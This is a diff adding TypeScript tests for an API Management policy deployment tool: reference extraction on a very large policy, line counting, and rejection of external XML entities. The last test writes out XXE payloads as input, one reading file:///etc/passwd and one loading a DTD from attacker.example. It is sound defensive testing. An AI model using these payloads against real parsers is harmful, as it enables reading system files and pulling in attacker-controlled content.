@@ -31,6 +31,39 @@ describe('ApimDeploy policies', () => {
     ]);
   });
 
+  it('finds the references of a very large policy in one pass (the line count no longer restarts at each match)', () => {
+    // 120,000 references over 6 MB: counting lines from the start for each one took minutes.
+    const count = 120_000;
+    const lines = ['<policies>', '<inbound>'];
+    for (let i = 0; i < count; i++) lines.push(`<set-header name="h${i}" exists-action="override"><value>{{nv-${i}}}</value></set-header>`);
+    lines.push('</inbound>', '</policies>');
+    const refs = namedValueRefs(lines.join('\n'));
+    assert.equal(refs.length, count);
+    assert.deepEqual(refs[0], { name: 'nv-0', line: 3 });
+    assert.deepEqual(refs[count / 2], { name: `nv-${count / 2}`, line: count / 2 + 3 });
+    assert.deepEqual(refs[count - 1], { name: `nv-${count - 1}`, line: count + 2 });
+  });
+
+  it('counts lines across references on one line and across blank lines', () => {
+    assert.deepEqual(namedValueRefs('{{a}}{{b}}\n\n\n<x>{{c}}</x>\n{{d}}'), [
+      { name: 'a', line: 1 },
+      { name: 'b', line: 1 },
+      { name: 'c', line: 4 },
+      { name: 'd', line: 5 },
+    ]);
+  });
+
+  it('refuses an external entity in a policy as an error naming the file and the line of the declaration', () => {
+    const xml = '<?xml version="1.0"?>\n<!DOCTYPE policies [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<policies>\n  <inbound>&xxe;</inbound>\n</policies>';
+    assert.throws(() => checkPolicyXml({ source: 'policies/api.xml', xml }), (err: Error) => {
+      assert.equal(err.name, 'FileError');
+      assert.match(err.message, /^policies\/api\.xml:3: the policy declares an external entity \(<!ENTITY xxe SYSTEM …\), which could read files or URLs of the agent/);
+      return true;
+    });
+    const parameterEntity = '<!DOCTYPE policies [\n<!ENTITY % remote PUBLIC "-//x" "https://attacker.example/x.dtd">\n%remote;\n]>\n<policies />';
+    assert.throws(() => checkPolicyXml({ source: 'p.xml', xml: parameterEntity }), /^FileError: p\.xml:2: the policy declares an external entity/);
+  });
+
   it('compares policies by structure, not by formatting or comments', () => {
     const reformatted = POLICY.replace(/"/g, "'").replace(/\n\s*/g, '\r\n\t').replace('<inbound>', '<inbound><!-- note -->');
     assert.ok(samePolicy(reformatted, POLICY));
